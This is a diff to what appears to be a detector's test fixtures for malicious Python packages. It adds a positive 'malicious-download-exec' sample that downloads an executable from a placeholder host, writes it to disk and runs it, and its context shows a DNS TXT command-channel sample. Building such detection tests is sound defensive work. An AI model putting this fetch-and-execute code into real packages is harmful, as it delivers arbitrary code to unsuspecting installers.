@@ -139,6 +139,15 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
     "malicious-download-exec": {
         "positive": [
             {
+                # no threat keyword at all: fetch, write, run (nageir 2023)
+                "angie/angie.py": (
+                    "import requests, subprocess\n"
+                    "r = requests.get('https://cdn.example.invalid/x.exe')\n"
+                    "with open('windows.exe', 'wb') as f:\n    f.write(r.content)\n"
+                    "subprocess.run('windows.exe', check=True)\n"
+                )
+            },
+            {
                 # DNS TXT records as a command channel
                 "x/__init__.py": (
                     "import dns.resolver, subprocess\n"
